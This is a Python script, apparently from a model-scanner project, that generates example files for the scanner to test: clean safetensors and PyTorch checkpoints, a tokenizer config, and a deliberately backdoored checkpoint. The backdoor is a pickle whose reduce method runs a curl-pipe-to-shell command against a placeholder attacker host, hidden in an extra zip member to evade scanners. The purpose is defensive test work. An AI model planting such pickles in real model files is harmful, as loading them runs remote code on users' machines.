"""Writes the small example models that the README's first command scans.

Nothing here is ever loaded: malicious pickles are produced by `pickle.dumps` of objects
whose `__reduce__` names the gadget, which serialises the reference without calling it.
Run: python3 examples/make_examples.py
"""
import collections
import io
import json
import os
import pickle
import struct
import sys
import types
import zipfile

OUT = os.path.join(os.path.dirname(os.path.abspath(__file__)), "models")


class RunsShell:
    def __reduce__(self):
        return (os.system, ("curl -s https://attacker.invalid/x.sh | sh",))


def fake_torch():
    """Registers stand-ins so pickle writes torch's real global names."""
    torch = types.ModuleType("torch")
    utils = types.ModuleType("torch._utils")

    class FloatStorage:
        pass

    FloatStorage.__module__ = "torch"
    FloatStorage.__qualname__ = "FloatStorage"

    def _rebuild_tensor_v2(*args):
        raise RuntimeError("never called")

    _rebuild_tensor_v2.__module__ = "torch._utils"
    _rebuild_tensor_v2.__qualname__ = "_rebuild_tensor_v2"
    torch.FloatStorage = FloatStorage
    utils._rebuild_tensor_v2 = _rebuild_tensor_v2
    torch._utils = utils
    sys.modules["torch"] = torch
    sys.modules["torch._utils"] = utils
    return FloatStorage, _rebuild_tensor_v2


def torch_checkpoint(path, extra_member=None):
    storage_cls, rebuild = fake_torch()

    class Tensor:
        def __init__(self, key, shape):
            self.key, self.shape = key, shape

        def __reduce__(self):
            numel = 1
            for d in self.shape:
                numel *= d
            stride = tuple(numel // d if d else 1 for d in self.shape)
            return (rebuild, (StorageRef(self.key, numel), 0, self.shape, stride, False, collections.OrderedDict()))

    class StorageRef:
        def __init__(self, key, numel):
            self.key, self.numel = key, numel

    class TorchPickler(pickle.Pickler):
        def persistent_id(self, obj):
            if isinstance(obj, StorageRef):
                return ("storage", storage_cls, obj.key, "cpu", obj.numel)
            return None

    state = collections.OrderedDict(
        [("fc.weight", Tensor("0", (2, 4))), ("fc.bias", Tensor("1", (2,)))]
    )
    buf = io.BytesIO()
    TorchPickler(buf, protocol=2).dump(state)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as z:
        z.writestr("model/data.pkl", buf.getvalue())
        z.writestr("model/byteorder", "little")
        z.writestr("model/data/0", struct.pack("<8f", *range(8)))
        z.writestr("model/data/1", struct.pack("<2f", 0.5, -0.5))
        z.writestr("model/version", "3\n")
        z.writestr("model/.data/serialization_id", "1234567890123456789012345678901234567890")
        if extra_member:
            name, data = extra_member
            z.writestr(name, data)


def safetensors(path):
    header = {
        "__metadata__": {"format": "pt"},
        "bias": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]},
        "weight": {"dtype": "F32", "shape": [2, 2], "data_offsets": [8, 24]},
    }
    text = json.dumps(header, separators=(",", ":")).encode()
    text += b" " * (-len(text) % 8)
    data = struct.pack("<6f", 0.5, -0.5, 1, 2, 3, 4)
    with open(path, "wb") as f:
        f.write(struct.pack("<Q", len(text)) + text + data)


def main():
    os.makedirs(OUT, exist_ok=True)
    safetensors(os.path.join(OUT, "clean.safetensors"))
    torch_checkpoint(os.path.join(OUT, "clean_checkpoint.pt"))
    # CVE-2025-1889 style: the payload hides in a member that is not called data.pkl.
    torch_checkpoint(
        os.path.join(OUT, "backdoored_checkpoint.pt"),
        extra_member=("model/extra_state.bin", pickle.dumps(RunsShell(), protocol=4)),
    )
    with open(os.path.join(OUT, "tokenizer_config.json"), "w") as f:
        json.dump(
            {
                "chat_template": "{% for m in messages %}{{ m['role'] }}: {{ m['content'] }}\n{% endfor %}",
                "eos_token": "</s>",
            },
            f,
            indent=2,
        )


if __name__ == "__main__":
    main()
